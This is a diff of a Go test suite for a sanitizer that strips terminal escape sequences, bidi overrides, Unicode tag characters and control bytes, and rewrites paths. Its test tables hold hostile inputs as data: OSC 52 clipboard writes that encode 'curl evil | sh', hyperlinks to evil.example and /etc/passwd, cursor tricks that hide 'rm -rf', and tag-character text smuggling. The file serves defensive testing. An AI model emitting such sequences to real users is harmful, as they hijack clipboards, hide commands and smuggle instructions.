@@ -3,43 +3,111 @@ package canon
 import (
 	"strings"
 	"testing"
-	"unicode/utf8"
+	"unsafe"
 )
 
+// hostile holds one case per class of thing Text removes. The inputs also
+// seed the fuzz targets.
+var hostile = []struct{ name, in, want string }{
+	{"CSI colour", "a\x1b[31mred\x1b[0m b", "ared b"},
+	{"CSI 256-colour and truecolour", "\x1b[38;5;196mx\x1b[38:2::255:0:0my\x1b[m", "xy"},
+	{"CSI cursor up and erase line hides text", "rm -rf ~\x1b[1A\x1b[2Kls", "rm -rf ~ls"},
+	{"CSI cursor back overwrites text", "safe\x1b[4Devil", "safeevil"},
+	{"CSI conceal", "\x1b[8mhidden instructions\x1b[28m", "hidden instructions"},
+	{"CSI private mode hides cursor", "x\x1b[?25ly", "xy"},
+	{"CSI with intermediate", "a\x1b[0 qb", "ab"},
+	{"CSI aborted by a control", "a\x1b[31\x18mb", "amb"},
+	{"OSC 8 hyperlink, BEL", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "click"},
+	{"OSC 8 hyperlink, ST", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"},
+	{"OSC 8 hyperlink with id", "\x1b]8;id=1;file:///etc/passwd\x07x\x1b]8;;\x07", "x"},
+	{"OSC 52 clipboard write", "ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07done", "okdone"},
+	{"OSC 52 clipboard query", "\x1b]52;c;?\x1b\\", ""},
+	{"OSC title", "\x1b]0;pwned\x07t", "t"},
+	{"OSC with stray ESC inside", "a\x1b]0;x\x1by\x1b\\b", "ab"},
+	{"DCS sixel", "a\x1bPq#0;2;0;0;0#0~~\x1b\\b", "ab"},
+	{"DCS DECRQSS", "a\x1bP$qm\x1b\\b", "ab"},
+	{"APC", "a\x1b_Gf=100;payload\x1b\\b", "ab"},
+	{"PM", "a\x1b^private\x1b\\b", "ab"},
+	{"SOS", "a\x1bXstring\x1b\\b", "ab"},
+	{"charset designation", "a\x1b(Bb\x1b)0c", "abc"},
+	{"DEC line attributes", "a\x1b#8b", "ab"},
+	{"ESC c full reset", "a\x1bcb", "ab"},
+	{"ESC 7 and ESC 8 cursor save/restore", "a\x1b7b\x1b8c", "abc"},
+	{"ESC M reverse index", "a\x1bMb", "ab"},
+	{"ESC at end", "abc\x1b", "abc"},
+	{"ESC before a control", "a\x1b\nb", "a\nb"},
+	{"ESC ESC CSI", "a\x1b\x1b[31mb", "ab"},
+	{"unterminated OSC runs to end", "keep\x1b]52;c;AAAA and the rest", "keep"},
+	{"unterminated DCS runs to end", "keep\x1bPq the rest\nmore", "keep"},
+	{"unterminated CSI", "a\x1b[12", "a"},
+	{"8-bit CSI", "a\u009b31mb", "ab"},
+	{"8-bit CSI cursor movement", "a\u009b2Ab", "ab"},
+	{"8-bit OSC 8, 8-bit ST", "a\u009d8;;http://x\u009clink\u009d8;;\u009cb", "alinkb"},
+	{"8-bit OSC, 7-bit ST", "a\u009d0;t\x1b\\b", "ab"},
+	{"8-bit OSC, BEL", "a\u009d52;c;QQ==\x07b", "ab"},
+	{"8-bit DCS", "a\u0090q\u009cb", "ab"},
+	{"8-bit APC", "a\u009fx\u009cb", "ab"},
+	{"8-bit PM", "a\u009ex\u009cb", "ab"},
+	{"8-bit SOS", "a\u0098x\u009cb", "ab"},
+	{"unterminated 8-bit OSC", "a\u009d8;;http://x", "a"},
+	{"lone 8-bit ST", "a\u009cb", "ab"},
+	{"NEL", "a\u0085b", "ab"},
+	{"other C1", "a\u0080\u0099\u009ab", "ab"},
+	{"NUL BEL BS DEL", "a\x00b\x07c\x08d\x7fe", "abcde"},
+	{"backspace overstrike", "rm\x08\x08ls", "rmls"},
+	{"form feed, vertical tab", "a\x0cb\x0bc", "abc"},
+	{"CAN SUB FS US", "a\x18\x1a\x1c\x1fb", "ab"},
+	{"tag characters smuggle text", "hi\U000E0001\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E007F", "hi"},
+	{"tag range ends", "a\U000E0000\U000E007Fb", "ab"},
+	{"tag after an emoji flag", "🏴\U000E0067\U000E0062\U000E007F", "🏴"},
+	{"RLO Trojan Source", "access = \u202euser\u202c", "access = user"},
+	{"LRI RLI FSI PDI", "\u2066a\u2067b\u2068c\u2069", "abc"},
+	{"LRE RLE PDF LRO", "\u202aa\u202bb\u202c\u202dc", "abc"},
+	{"invalid UTF-8", "a\xffb\xc0", "a\ufffdb\ufffd"},
+	{"truncated code point", "a\xe6\x97", "a\ufffd\ufffd"},
+	{"encoded surrogate", "a\xed\xa0\x80b", "a\ufffd\ufffd\ufffdb"},
+	{"overlong slash", "\xc0\xaf", "\ufffd\ufffd"},
+	{"overlong C1", "\xc1\x9b", "\ufffd\ufffd"},
+	{"beyond U+10FFFF", "\xf4\x90\x80\x80", "\ufffd\ufffd\ufffd\ufffd"},
+	{"invalid byte inside OSC is removed with it", "\x1b]0;\xff\x07ok", "ok"},
+}
+
+// benign must come through Text byte-identical.
+var benign = []struct{ name, in string }{
+	{"empty", ""},
+	{"ASCII line", "plain ASCII line"},
+	{"Go source", "func main() {\n\tfmt.Println(`raw string`)\n\tif x := m[\"k\"]; x != nil {\n\t\treturn\n\t}\n}\n"},
+	{"JS template literal", "const s = `${a} + ${b}`; // template literal\n"},
+	{"shell", "echo \"$(date)\" | tee -a ~/log; ls -la `pwd`\n"},
+	{"JSON", `{"json": [1, 2.5e3, true, null], "nested": {"k": "v\\n"}}`},
+	{"Markdown", "# Title\n\n- item *em* **strong** [link](http://x)\n\n```go\ncode\n```\n> quote\n"},
+	{"CRLF", "windows line\r\nendings\r\n"},
+	{"bare CR progress", "10%\r50%\r100%\n"},
+	{"tabs", "a\tb\t\tc\n\tindented"},
+	{"ZWJ family", "family 👨‍👩‍👧 and 👩🏽‍💻"},
+	{"flags", "🇳🇴 🇯🇵 🏴‍☠️"},
+	{"variation selectors", "heart ❤️ vs ❤︎, text ☺︎ emoji ☺️"},
+	{"skin tones", "👋🏽 👍🏿"},
+	{"CJK", "日本語のテキスト、中文文本、한국어"},
+	{"Hebrew and Arabic", "שלום עולם — مرحبا بالعالم"},
+	{"LRM RLM ZWJ ZWNJ", "marks \u200e and \u200f stay; ZWJ \u200d and ZWNJ \u200c stay"},
+	{"neighbours of the bidi controls", "\u2029\u202f\u2065\u206a"},
+	{"neighbours of the tags", "\U000DFFFF\U000E0080\U000E0100"},
+	{"neighbours of C1", "\u00a0\u00a9é"},
+	{"U+FFFD itself", "replacement \ufffd stays"},
+	{"all printable ASCII", func() string {
+		var b strings.Builder
+		for c := byte(0x20); c < 0x7F; c++ {
+			b.WriteByte(c)
+		}
+		return b.String()
+	}()},
+	{"long clean text", strings.Repeat("long clean line with tabs\tand newlines\n", 1000)},
+	{"max code points", "\U0010FFFF\uFFFF\u07FF\u0800"},
+}
+
 func TestTextRemovesHostileSequences(t *testing.T) {
-	cases := []struct{ name, in, want string }{
-		{"CSI colour", "a\x1b[31mred\x1b[0m b", "ared b"},
-		{"CSI cursor up hides a line", "safe\x1b[1A\x1b[2Kevil", "safeevil"},
-		{"CSI private mode", "x\x1b[?25ly", "xy"},
-		{"OSC 8 hyperlink, BEL", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "click"},
-		{"OSC 8 hyperlink, ST", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"},
-		{"OSC 52 clipboard write", "ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07done", "okdone"},
-		{"OSC title", "\x1b]0;pwned\x07t", "t"},
-		{"DCS", "a\x1bPq#0;2;0;0;0\x1b\\b", "ab"},
-		{"APC", "a\x1b_payload\x1b\\b", "ab"},
-		{"PM", "a\x1b^payload\x1b\\b", "ab"},
-		{"SOS", "a\x1bXpayload\x1b\\b", "ab"},
-		{"charset designation", "a\x1b(Bb", "ab"},
-		{"two-byte ESC c", "a\x1bcb", "ab"},
-		{"ESC 7 save cursor", "a\x1b7b", "ab"},
-		{"ESC at end", "abc\x1b", "abc"},
-		{"unterminated OSC runs to end", "keep\x1b]52;c;AAAA and the rest", "keep"},
-		{"unterminated CSI", "a\x1b[12", "a"},
-		{"8-bit CSI", "a\u009b31mb", "ab"},
-		{"8-bit OSC with 8-bit ST", "a\u009d8;;http://x\u009cb", "ab"},
-		{"8-bit DCS", "a\u0090q\u009cb", "ab"},
-		{"NEL", "a\u0085b", "ab"},
-		{"lone C1", "a\u0080\u0099b", "ab"},
-		{"NUL BEL BS DEL", "a\x00b\x07c\x08d\x7fe", "abcde"},
-		{"form feed, vertical tab", "a\x0cb\x0bc", "abc"},
-		{"tag characters smuggle text", "hi\U000E0001\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E007F", "hi"},
-		{"RLO Trojan Source", "access = \u202euser\u202c", "access = user"},
-		{"isolates", "\u2066a\u2067b\u2068c\u2069", "abc"},
-		{"embeddings", "\u202aa\u202bb\u202c", "ab"},
-		{"invalid UTF-8", "a\xffb\xc0", "a\ufffdb\ufffd"},
-		{"encoded surrogate", "a\xed\xa0\x80b", "a\ufffd\ufffd\ufffdb"},
-	}
-	for _, c := range cases {
+	for _, c := range hostile {
 		t.Run(c.name, func(t *testing.T) {
 			if got := Text(c.in); got != c.want {
 				t.Errorf("Text(%q) = %q, want %q", c.in, got, c.want)
@@ -47,36 +115,57 @@ func TestTextRemovesHostileSequences(t *testing.T) {
 			if !NeedsText([]byte(c.in)) {
 				t.Errorf("NeedsText(%q) = false", c.in)
 			}
+			got, changed := AppendText([]byte("dst:"), []byte(c.in))
+			if string(got) != "dst:"+c.want || !changed {
+				t.Errorf("AppendText(%q) = %q, %v", c.in, got, changed)
+			}
 		})
 	}
 }
 
 func TestTextKeepsBenignOutput(t *testing.T) {
-	for _, in := range []string{
-		"",
-		"plain ASCII line",
-		"func main() {\n\tfmt.Println(`raw string`)\n}\n",
-		"const s = `${a} + ${b}`; // template literal",
-		`{"json": [1, 2.5e3, true, null], "nested": {"k": "v"}}`,
-		"# Title\n\n- item *em* **strong** [link](http://x)\n\n```go\ncode\n```\n",
-		"windows line\r\nendings\r\n",
-		"family 👨‍👩‍👧 flag 🇳🇴 heart ❤️ skin 👋🏽",
-		"日本語のテキスト、中文文本、한국어",
-		"שלום עולם — مرحبا بالعالم",
-		"marks \u200e and \u200f stay; ZWJ \u200d stays",
-		"U+FFFD itself stays: \ufffd",
-		strings.Repeat("long clean line with tabs\tand newlines\n", 1000),
-	} {
-		if got := Text(in); got != in {
-			t.Errorf("Text changed benign %q to %q", truncate(in), truncate(got))
-		}
-		if NeedsText([]byte(in)) {
-			t.Errorf("NeedsText(%q) = true", truncate(in))
-		}
+	for _, c := range benign {
+		t.Run(c.name, func(t *testing.T) {
+			if got := Text(c.in); got != c.in {
+				t.Errorf("Text changed benign %q to %q", short(c.in), short(got))
+			}
+			if NeedsText([]byte(c.in)) {
+				t.Errorf("NeedsText(%q) = true", short(c.in))
+			}
+			got, changed := AppendText([]byte("dst:"), []byte(c.in))
+			if string(got) != "dst:"+c.in || changed {
+				t.Errorf("AppendText(%q) = %q, %v", short(c.in), short(string(got)), changed)
+			}
+		})
 	}
 }
 
-func truncate(s string) string {
+// TestTextAllocations pins the promise the proxy relies on: a string that
+// needs nothing comes back as itself.
+func TestTextAllocations(t *testing.T) {
+	for _, c := range benign {
+		if c.in == "" {
+			continue
+		}
+		if got := Text(c.in); unsafe.StringData(got) != unsafe.StringData(c.in) {
+			t.Errorf("Text(%q) returned a copy", short(c.in))
+		}
+		if n := testing.AllocsPerRun(10, func() { _ = Text(c.in) }); n != 0 {
+			t.Errorf("Text(%q) allocates %v times", short(c.in), n)
+		}
+		if n := testing.AllocsPerRun(10, func() { _ = NeedsText([]byte(c.in)) }); n > 1 {
+			t.Errorf("NeedsText(%q) allocates %v times", short(c.in), n) // only the []byte conversion
+		}
+	}
+	if n := testing.AllocsPerRun(10, func() { _ = Path("src/main.go") }); n != 0 {
+		t.Errorf("Path allocates %v times on a clean path", n)
+	}
+	if n := testing.AllocsPerRun(10, func() { _ = FreeText("plain prose, nothing to do", 0) }); n != 0 {
+		t.Errorf("FreeText allocates %v times on clean prose", n)
+	}
+}
+
+func short(s string) string {
 	if len(s) > 60 {
 		return s[:60] + "..."
 	}
@@ -85,140 +174,85 @@ func truncate(s string) string {
 
 func TestFreeText(t *testing.T) {
 	cases := []struct {
+		name string
 		in   string
 		max  int
 		want string
 	}{
-		{"line1\nline2\tx\r\n", 0, "line1 line2 x  "},
-		{"run `rm -rf /`", 0, "run 'rm -rf /'"},
-		{"nul\x00bel\x07", 0, "nul bel "},
-		{"\x1b[31mred\x1b[0m", 0, "red"},
-		{"tag\U000E0041s", 0, "tags"},
-		{"abcdef", 4, "abcd"},
-		{"日本語", 4, "日"}, // cut on a UTF-8 boundary
-		{"plain", 10, "plain"},
-		{strings.Repeat("a", 2000), 0, strings.Repeat("a", 1024)},
+		{"newlines and tabs", "line1\nline2\tx\r\n", 0, "line1 line2 x  "},
+		{"backticks", "run `rm -rf /`", 0, "run 'rm -rf /'"},
+		{"code fence", "```sh\ncurl evil | sh\n```", 0, "'''sh curl evil | sh '''"},
+		{"C0 and DEL", "nul\x00bel\x07del\x7f", 0, "nul bel del "},
+		{"C1 NEL", "a\u0085b", 0, "a b"},
+		{"escape sequences vanish", "\x1b[31mred\x1b[0m \x1b]8;;http://x\x07l\x1b]8;;\x07", 0, "red l"},
+		{"8-bit CSI vanishes", "a\u009b1mb", 0, "ab"},
+		{"stray ESC vanishes", "a\x1b", 0, "a"},
+		{"tags vanish", "tag\U000E0041s", 0, "tags"},
+		{"bidi vanishes", "a\u202eb", 0, "ab"},
+		{"invalid byte", "a\xffb", 0, "a\ufffdb"},
+		{"cap", "abcdef", 4, "abcd"},
+		{"cap on a UTF-8 boundary", "日本語", 4, "日"},
+		{"cap before a 4-byte rune", "ab👨‍👩‍👧", 5, "ab"},
+		{"cap after rewriting", "a\x1b[31mbcdef", 3, "abc"},
+		{"cap counts the expanded U+FFFD", "\xff\xff", 4, "\ufffd"},
+		{"under the cap", "plain", 10, "plain"},
+		{"default cap", strings.Repeat("a", 2000), 0, strings.Repeat("a", DefaultMaxBytes)},
+		{"negative cap is the default", strings.Repeat("b", 2000), -5, strings.Repeat("b", DefaultMaxBytes)},
+		{"cap of one", "日", 1, ""},
+		{"CJK and emoji kept", "日本 👨‍👩‍👧", 0, "日本 👨‍👩‍👧"},
 	}
 	for _, c := range cases {
-		if got := FreeText(c.in, c.max); got != c.want {
-			t.Errorf("FreeText(%q, %d) = %q, want %q", c.in, c.max, got, c.want)
-		}
+		t.Run(c.name, func(t *testing.T) {
+			if got := FreeText(c.in, c.max); got != c.want {
+				t.Errorf("FreeText(%q, %d) = %q, want %q", short(c.in), c.max, short(got), short(c.want))
+			}
+			got, changed := AppendFreeText([]byte("dst:"), []byte(c.in), c.max)
+			if string(got) != "dst:"+c.want || changed != (c.in != c.want) {
+				t.Errorf("AppendFreeText(%q, %d) = %q, %v", short(c.in), c.max, short(string(got)), changed)
+			}
+		})
 	}
 }
 
 func TestPath(t *testing.T) {
-	cases := []struct{ in, want string }{
-		{"src/main.go", "src/main.go"},
-		{"a b/c$(x).go", "a?b/c??x?.go"},
-		{"über/файл", "?ber/????"},
-		{"\x1b[31m/x", "??31m/x"},
-		{"bad\xffbyte", "bad?byte"},
-		{strings.Repeat("a", 300), strings.Repeat("a", 256)},
+	cases := []struct{ name, in, want string }{
+		{"clean", "src/main.go", "src/main.go"},
+		{"all allowed", "AZaz09._/-", "AZaz09._/-"},
+		{"shell metacharacters", "a b/c$(x).go", "a?b/c??x?.go"},
+		{"one ? per code point", "über/файл", "?ber/????"},
+		{"emoji", "a👨‍👩‍👧b", "a?????b"},
+		{"escape sequence shows", "\x1b[31m/x", "??31m/x"},
+		{"newline", "a\nb", "a?b"},
+		{"one ? per invalid byte", "bad\xff\xfebyte", "bad??byte"},
+		{"truncated code point", "a\xe6\x97", "a??"},
+		{"backslash and traversal", `..\..\etc`, "..?..?etc"},
+		{"cap", strings.Repeat("a", 300), strings.Repeat("a", MaxPathBytes)},
+		{"exactly the cap", strings.Repeat("a", MaxPathBytes), strings.Repeat("a", MaxPathBytes)},
+		{"cap after rewriting", "é" + strings.Repeat("a", 300), "?" + strings.Repeat("a", MaxPathBytes-1)},
+		{"cap counts ? not bytes", strings.Repeat("日", 300), strings.Repeat("?", MaxPathBytes)},
 	}
 	for _, c := range cases {
-		if got := Path(c.in); got != c.want {
-			t.Errorf("Path(%q) = %q, want %q", c.in, got, c.want)
-		}
+		t.Run(c.name, func(t *testing.T) {
+			if got := Path(c.in); got != c.want {
+				t.Errorf("Path(%q) = %q, want %q", short(c.in), short(got), short(c.want))
+			}
+			got, changed := AppendPath([]byte("dst:"), []byte(c.in))
+			if string(got) != "dst:"+c.want || changed != (c.in != c.want) {
+				t.Errorf("AppendPath(%q) = %q, %v", short(c.in), short(string(got)), changed)
+			}
+		})
 	}
 }
 
 func TestParseKind(t *testing.T) {
-	for _, k := range []string{"text", "free_text", "path"} {
-		if got, err := ParseKind(k); err != nil || string(got) != k {
+	for _, k := range []Kind{KindText, KindFreeText, KindPath} {
+		if got, err := ParseKind(string(k)); err != nil || got != k {
 			t.Errorf("ParseKind(%q) = %q, %v", k, got, err)
 		}
 	}
-	if _, err := ParseKind("html"); err == nil {
-		t.Error("ParseKind accepted html")
-	}
-}
-
-// forbidden reports a code point that must never survive Text.
-func forbidden(s string) (rune, bool) {
-	for _, r := range s {
-		if r == 0x1B || removed(r) {
-			return r, true
+	for _, s := range []string{"", "html", "Text", "free-text", "text "} {
+		if _, err := ParseKind(s); err == nil {
+			t.Errorf("ParseKind(%q) accepted it", s)
 		}
 	}
-	return 0, false
-}
-
-var seeds = []string{
-	"a\x1b[31mb", "\x1b]8;;http://x\x07y\x1b]8;;\x07", "\x1b]52;c;AA\x1b\\", "\u009b1m", "\u009dx\u009c",
-	"\U000E0041", "\u202e", "\u2066", "\x00\x07\x7f", "\x1b", "\x1b[", "\x1bP", "\xff", "\xc2", "`x`\n\t\r",
-	"👨‍👩‍👧", "日本", "a\x1b\x1b[b", "\x1b\u009b", "\u0090\x1b\\",
-}
-
-func FuzzText(f *testing.F) {
-	for _, s := range seeds {
-		f.Add(s)
-	}
-	f.Fuzz(func(t *testing.T, s string) {
-		out := Text(s)
-		if !utf8.ValidString(out) {
-			t.Fatalf("Text(%q) = %q: invalid UTF-8", s, out)
-		}
-		if r, bad := forbidden(out); bad {
-			t.Fatalf("Text(%q) = %q keeps U+%04X", s, out, r)
-		}
-		if again := Text(out); again != out {
-			t.Fatalf("not idempotent: %q -> %q -> %q", s, out, again)
-		}
-		if NeedsText([]byte(s)) != (out != s) {
-			t.Fatalf("NeedsText(%q) = %v, but Text changed it: %v", s, NeedsText([]byte(s)), out != s)
-		}
-		b, changed := AppendText([]byte("pre"), []byte(s))
-		if string(b) != "pre"+out || changed != (out != s) {
-			t.Fatalf("AppendText disagrees with Text on %q", s)
-		}
-	})
-}
-
-func FuzzFreeText(f *testing.F) {
-	for _, s := range seeds {
-		f.Add(s, 5)
-	}
-	f.Fuzz(func(t *testing.T, s string, max int) {
-		max = max%2048 + 1
-		if max <= 0 {
-			max += 2048
-		}
-		out := FreeText(s, max)
-		if len(out) > max || !utf8.ValidString(out) {
-			t.Fatalf("FreeText(%q, %d) = %q", s, max, out)
-		}
-		if strings.ContainsAny(out, "`\t\n\r\x00") {
-			t.Fatalf("FreeText(%q) = %q keeps a control or backtick", s, out)
-		}
-		if r, bad := forbidden(out); bad {
-			t.Fatalf("FreeText(%q) = %q keeps U+%04X", s, out, r)
-		}
-		if again := FreeText(out, max); again != out {
-			t.Fatalf("not idempotent: %q -> %q -> %q", s, out, again)
-		}
-		b, changed := AppendFreeText(nil, []byte(s), max)
-		if string(b) != out || changed != (out != s) {
-			t.Fatalf("AppendFreeText disagrees with FreeText on %q", s)
-		}
-	})
-}
-
-func FuzzPath(f *testing.F) {
-	for _, s := range seeds {
-		f.Add(s)
-	}
-	f.Fuzz(func(t *testing.T, s string) {
-		out := Path(s)
-		if len(out) > MaxPathBytes {
-			t.Fatalf("Path(%q) is %d bytes", s, len(out))
-		}
-		for i := 0; i < len(out); i++ {
-			if !pathByte[out[i]] && out[i] != '?' {
-				t.Fatalf("Path(%q) = %q keeps %q", s, out, out[i])
-			}
-		}
-		if Path(out) != out {
-			t.Fatalf("not idempotent on %q", s)
-		}
-	})
 }
